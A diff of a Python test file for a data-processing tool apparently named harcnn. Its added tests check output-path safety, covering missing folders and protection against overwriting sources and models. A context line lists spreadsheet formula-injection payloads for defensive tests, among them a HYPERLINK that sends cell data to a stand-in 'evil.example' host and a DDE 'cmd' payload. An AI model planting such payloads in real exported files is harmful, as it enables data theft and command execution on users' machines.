@@ -16,7 +16,7 @@ import pytest
 import harcnn
 from harcnn.errors import HarcnnError
 from harcnn.outputs import atomic_output, spreadsheet_safe, write_csv
-from helpers import cli, fails, invoke
+from helpers import SPEC, cli, fails, invoke, synthetic, windows_npz
 from helpers import write_csv as write_phone
 
 FORMULAS = ['=HYPERLINK("http://evil.example/"&A1,"walk")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tstart", "\rx"]
@@ -176,3 +176,49 @@ def harcnn_channels() -> list[str]:
     from harcnn.data.sensors import CHANNELS
 
     return list(CHANNELS)
+
+
+@pytest.mark.parametrize("command", ["train", "predict", "import"])
+def test_out_into_a_missing_folder(monkeypatch, capsys, tmp_path, trained, tiny_zip, command):
+    target = tmp_path / "no" / "such" / "place"
+    if command == "train":
+        spec = tmp_path / "s.toml"
+        spec.write_text(SPEC)
+        args = ["train", spec, "--data", tiny_zip, "--out", target]
+    elif command == "predict":
+        args = ["predict", trained, write_phone(tmp_path / "p.csv", synthetic(300)), "--out", target]
+    else:
+        np.savez(tmp_path / "w.npz", X=np.zeros((8, 2, 16)), y=np.arange(8) % 2, subject=np.arange(8) % 4)
+        args = ["data", "import", tmp_path / "w.npz", "--out", target.with_suffix(".npz")]
+    fails(monkeypatch, capsys, "does not exist", *args)
+
+
+def test_import_never_overwrites_its_source(monkeypatch, capsys, tmp_path):
+    source = windows_npz(tmp_path / "w.npz")
+    before = source.read_bytes()
+    fails(monkeypatch, capsys, "is also an input of this command", "data", "import", source, "--out", source)
+    assert source.read_bytes() == before
+
+
+@pytest.mark.parametrize(
+    "command, target, message",
+    [
+        ("export", "model.safetensors", "own files; writing it would destroy the model"),
+        ("predict", "model.json", "own files; writing it would destroy the model"),
+        ("export", ".", "is a folder; give a file name"),
+        ("predict", ".", "is a folder; give a file name"),
+        ("evaluate", "model.json", "is a file; give a folder"),
+    ],
+)
+def test_outputs_never_destroy_a_model(monkeypatch, capsys, tmp_path, trained, command, target, message):
+    import shutil
+
+    model = shutil.copytree(trained, tmp_path / "m")
+    before = {p.name: p.read_bytes() for p in model.iterdir()}
+    args = {
+        "export": ["export", model],
+        "predict": ["predict", model, write_phone(tmp_path / "p.csv", synthetic(300))],
+        "evaluate": ["evaluate", model],
+    }[command]
+    fails(monkeypatch, capsys, message, *args, "--out", model / target if target != "." else tmp_path)
+    assert {p.name: p.read_bytes() for p in model.iterdir()} == before
